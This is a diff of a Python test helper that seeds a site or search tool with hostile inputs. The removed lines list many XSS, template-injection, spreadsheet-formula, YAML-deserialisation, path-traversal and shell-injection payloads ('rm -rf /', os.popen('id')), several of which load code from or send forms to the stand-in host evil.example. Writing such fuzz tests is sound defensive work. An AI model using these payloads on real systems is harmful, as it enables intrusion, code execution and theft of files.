@@ -7,99 +7,10 @@ import re
 from collections.abc import Mapping, Sequence
 from pathlib import Path
 
+from browser.payloads import PAYLOADS
+
 KINDS = ("people", "organizations", "places", "topics")
 PROSE = "The council voted on Tuesday to repair the roof of the market hall before the winter begins."
-EVIL = "https://evil.example"
-
-# What runs, loads, frames, sends or leads elsewhere, where a page lets it.
-MARKUP = (
-    "<script>alert(1)</script>",
-    f"<script src={EVIL}/x.js></script>",
-    '"><script>alert(1)</script>',
-    "'-alert(1)-'",
-    "<img src=x onerror=alert(1)>",
-    f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
-    "<svg/onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
-    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
-    f"<base href={EVIL}/>",
-    f"<form action={EVIL}/><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>Go",
-    f"<iframe src={EVIL}/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    f"<object data={EVIL}/x></object><embed src={EVIL}/x>",
-    f"<link rel=stylesheet href={EVIL}/x.css><style>@import '{EVIL}/y.css'; *{{color:url({EVIL}/z)}}</style>",
-    f"<p style='position:fixed;inset:0;background:url({EVIL}/x);width:expression(alert(1))'>over all</p>",
-    f"<a href=javascript:alert(1) ping={EVIL}/>link</a><a href='java&#10;script:alert(1)'>link</a>",
-    f"<video poster={EVIL}/x.png src={EVIL}/x.mp4 autoplay></video><audio src={EVIL}/x.mp3 autoplay>",
-    "<details open ontoggle=alert(1)>",
-    f"<template><img src={EVIL}/t.png></template><portal src={EVIL}/>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "</title></script></style></textarea></template></article></main></body><script>alert(1)</script>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
-    "`onclick=alert(1)` x=`",
-    "<div data-pagefind-body data-pagefind-meta='title:x' data-md-component=header id=__search>",
-    "<h1 class=cf-head hidden id=main>",
-)
-MARKDOWN = (
-    "[a](javascript:alert(1))",
-    "[a](<javascript:alert(1)> 'title')",
-    "[a](JaVaScRiPt&colon;alert(1))",
-    "[a](&#106;&#97;&#118;&#97;script:alert(1))",
-    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[a](vbscript:msgbox(1)) [b](file:///etc/passwd)",
-    f"![a]({EVIL}/x.png) ![b](javascript:alert(1))",
-    f'[a]({EVIL}/x "onmouseover=alert(1)") [a]({EVIL}/x\'"><script>alert(1)</script>)',
-    "[a][r]\n\n[r]: javascript:alert(1) 'title'",
-    f"![a][p]\n\n[p]: {EVIL}/p.png",
-    "<javascript:alert(1)> <data:text/html,x> <https://a.example/><script>alert(1)</script>",
-    "{: onclick=alert(1) #main .cf-head }",
-    "```html\n<script>alert(1)</script>\n```",
-    "~~~ {.x onclick=alert(1)}\n~~~",
-    "    <script>alert(1)</script>",
-    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [a](javascript:alert(1)) | c |",
-    "*[HTML]: <script>alert(1)</script>\n\nHTML[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
-    "--8<-- \"/etc/passwd\"\n\n{% include '/etc/passwd' %}",
-    "---\ntemplate: /etc/passwd\nhide: [navigation]\nsearch: {exclude: true}\n---",
-    "\u0002klzzwxh:0000\u0003 \u0002wzxhzdk:0\u0003",
-)
-TEMPLATES = (
-    "{{ config }} {{ 7*7 }} {{ page.__class__.__mro__ }}",
-    "{% raw %} {% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
-    "{# {{ cycler.__init__.__globals__.os.popen('id').read() }} #}",
-    "${7*7} #{7*7} <%= 7*7 %>",
-)
-TEXTS = (
-    "\u202egpj.exe\u202c \u2066isolated \u061cmark",
-    "a\u2028b\u2029c</script><script>alert(1)</script>",
-    "NUL\x00 BEL\x07 ESC\x1b[31m DEL\x7f CSI\x9b31m",
-    "Z\u0351\u036b\u0343\u032aA\u0334\u0335\u0336L\u0337\u0338G\u0321O" * 6,
-    "x" * 1500,
-    "字" * 800,
-    "\U0001f600\ufdfd" * 40,
-    "\ufeff\u200b\u200d\ufffe\uffff",
-    '=HYPERLINK("https://evil.example","x")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3 @SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1\r\n=2+2",
-    "}, title = {other}}\n@article{evil, url = {javascript:alert(1)}}",
-    "\\input{/etc/passwd} \\write18{id} % $ & # _ ^ ~ \\",
-    "one\nER  - \n\nTY  - NEWS\nUR  - javascript:alert(1)",
-    "]]></title><item><link>javascript:alert(1)</link></item>",
-    "!!python/object/apply:os.system ['id']",
-    "&a [*a, *a] <<: *a",
-    "../../../etc/passwd",
-    "..\\..\\windows\\win.ini",
-    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-    "/etc/passwd\u0000.md",
-    "__proto__ constructor toString hasOwnProperty",
-    "%s %n %d {0} {name} $(id) `id` ; rm -rf / | id",
-    "undefined null NaN true - ~ ?",
-)
-PAYLOADS = (*MARKUP, *MARKDOWN, *TEMPLATES, *TEXTS)
 UNPRINTABLE = re.compile(r"[\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]")
 # What an address may hold and still be one.
 ADDRESSES = (
@@ -141,15 +52,47 @@ def in_doses(payloads: Sequence[str], size: int) -> list[Sequence[str]]:
     return [payloads[start : start + size] for start in range(0, len(payloads), size)]
 
 
-def hostile_seeds(doses: Sequence[Sequence[str]]) -> dict[str, str | bytes]:
-    """Path below the seeds → what stands there: each dose as text, as every field, and as names."""
+def hostile_seeds(doses: Sequence[Sequence[str]], singles: Sequence[str]) -> dict[str, str | bytes]:
+    """Path below the seeds → what stands there: each dose as text, as every field, and as names.
+
+    Args:
+        doses: payloads that share a page.
+        singles: payloads that have a page to themselves.
+    """
     files: dict[str, str | bytes] = {}
     for number, dose in enumerate(doses):
         files |= _texts(number, dose) | _described(number, dose) | _collection(number, dose)
     for kind in KINDS:
-        mine = [pair for pair in _numbered(doses) if KINDS[pair[0] % len(KINDS)] == kind]
-        files[f"authority/{kind}.yml"] = json.dumps([_entry(kind, *pair) for pair in mine])
-    return files | _named() | _steered()
+        named = _numbered([*doses, *([one] for one in singles)])
+        mine = [pair for pair in named if KINDS[pair[0] % len(KINDS)] == kind]
+        files[f"authority/{kind}.yml"] = _yaml([_entry(kind, *pair) for pair in mine])
+    return files | single_seeds(singles) | _named() | _steered()
+
+
+def single_seeds(payloads: Sequence[str]) -> dict[str, str | bytes]:
+    """Each payload alone on a page: as text in one of the formats or as every field, and as a known name."""
+    files: dict[str, str | bytes] = {}
+    for number, one in enumerate(payloads):
+        suffix = (*FORMATS, "yml")[number % (len(FORMATS) + 1)]
+        if suffix == "yml":
+            files |= _alone(number, one)
+            continue
+        said = f"{one}\n\n{PROSE} {one} said, “{one}”\n\n> {one}\n\n- {one}\n\n{one}"
+        text = f"{FORMATS[suffix].format(one, PROSE)}\n\nBy {one}\n\n{said}\n"
+        files[f"one-{number}.{suffix}"] = text.encode("utf-8", "surrogatepass")
+    return files
+
+
+def _alone(number: int, one: str) -> dict[str, str | bytes]:
+    files = _described(number, [one])
+    described = {"title": one or "x", "description": one, "articles": [f"one-{number}.txt", one]}
+    return {
+        f"one-{number}.txt": files[f"fields-{number}.txt"],
+        f"one-{number}.yml": str(files[f"fields-{number}.yml"]).replace(
+            f'"fields-{number}"', f'"one-{number}"'
+        ),
+        f"collections/one-{number}.yml": _yaml(described),
+    }
 
 
 def _numbered(doses: Sequence[Sequence[str]]) -> list[tuple[int, str]]:
@@ -208,7 +151,7 @@ def _described(number: int, dose: Sequence[str]) -> dict[str, str | bytes]:
 
 def _yaml(value: object) -> str:
     """JSON, which is YAML where it holds no character that YAML refuses."""
-    text = json.dumps(value, ensure_ascii=False)
+    text = json.dumps(value, ensure_ascii=False).encode(errors="replace").decode()
     return UNPRINTABLE.sub(lambda match: f"\\u{ord(match[0]):04x}", text)
 
 
